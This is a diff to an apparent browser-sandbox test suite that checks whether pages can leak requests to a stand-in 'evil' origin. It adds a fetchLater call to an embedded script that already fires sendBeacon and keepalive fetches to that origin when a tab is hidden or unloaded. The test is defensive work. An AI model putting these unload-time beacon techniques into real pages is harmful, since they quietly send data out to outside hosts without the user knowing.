@@ -64,7 +64,7 @@ async def test_without_rules_every_outlet_is_one(browser: Browser, web: Web) -> 
     tried = web.paths("evil")
 
     assert {"/fetch", "/socket", "/shared-socket", "/service-fetch", "/popup", "/redirected-to-iframe"} <= set(tried)
-    assert {"/blob-fetch", "/data-socket", "/shared-dotted-socket", "/paint.js", "/sound.js"} <= set(tried)
+    assert {"/blob-fetch", "/data-socket", "/shared-dotted-socket", "/paint.js", "/background"} <= set(tried)
     assert len(tried) > 80
 
 
@@ -116,6 +116,7 @@ async def test_a_tab_in_the_chrome_of_a_user_closes_without_a_word(web: Web, det
     for (const last of ["pagehide", "unload", "visibilitychange"]) addEventListener(last, () => {{
       navigator.sendBeacon("{web.origin("evil")}/" + last);
       fetch("{web.origin("evil")}/" + last, {{keepalive: true, mode: "no-cors"}}); }});
+    if (self.fetchLater) fetchLater("{web.origin("evil")}/later");
     </script>"""
     async with Browser.connect(detached.endpoint, allow=ALLOWED) as browser:
         page = await browser.new_page()
